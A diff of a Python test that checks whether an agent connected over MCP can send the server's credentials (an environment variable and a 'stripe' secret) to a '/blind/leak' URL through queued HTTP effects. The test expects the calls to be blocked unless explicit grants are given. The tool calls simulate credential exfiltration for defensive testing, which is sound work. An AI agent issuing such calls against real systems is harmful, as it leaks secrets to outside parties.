@@ -84,6 +84,7 @@ def test_a_mixed_capability_narrows_both_ways_it_is_read() -> None:
 def _session(store: Path, url: str, caps: list[str]) -> list[dict[str, Any]]:
     """The attack: an agent queues an effect carrying the server's credentials to a URL it reads back,
     then commits. Each step's outcome (error text or result)."""
+
     async def go() -> list[dict[str, Any]]:
         args = ["-C", str(store), "mcp", *[a for c in caps for a in ("--cap", c)]]
         env = {k: v for k, v in os.environ.items() if k != "REEL_DIR"}
@@ -94,8 +95,9 @@ def _session(store: Path, url: str, caps: list[str]) -> list[dict[str, Any]]:
             await client.initialize()
             await client.call_tool("fork", {"name": "a"})
             for value in ({"$env": "LEAK_ME"}, {"$secret": "stripe"}):
-                res = await client.call_tool("effect", {"view": "a", "adapter": "http",
-                                                        "op": _op(f"{url}/blind/leak", value)})
+                res = await client.call_tool(
+                    "effect", {"view": "a", "adapter": "http", "op": _op(f"{url}/blind/leak", value)}
+                )
                 out.append({"error": res.isError, "text": "".join(getattr(c, "text", "") for c in res.content)})
             res = await client.call_tool("commit", {"view": "a"})
             out.append({"error": res.isError})
@@ -109,8 +111,12 @@ def test_mcp_agent_cannot_send_the_servers_credentials(store: Store, target: Tar
     assert [s["error"] for s in steps[:2]] == [True, True] and all("E009" in s["text"] for s in steps[:2]), steps
     assert target.ledger() == []
     # control: a server started with the grants lets the same calls through, and the drain sends them
-    grants = [f"fire_c=http:POST:{target.url}/", f"secret=env:LEAK_ME@http:POST:{target.url}/blind/",
-              f"secret=stripe@http:POST:{target.url}/blind/", "read,write="]
+    grants = [
+        f"fire_c=http:POST:{target.url}/",
+        f"secret=env:LEAK_ME@http:POST:{target.url}/blind/",
+        f"secret=stripe@http:POST:{target.url}/blind/",
+        "read,write=",
+    ]
     steps = _session(store.repo.path, target.url, grants)
     assert not any(s["error"] for s in steps), steps
     assert [e["path"] for e in target.ledger()] == ["/blind/leak", "/blind/leak"]
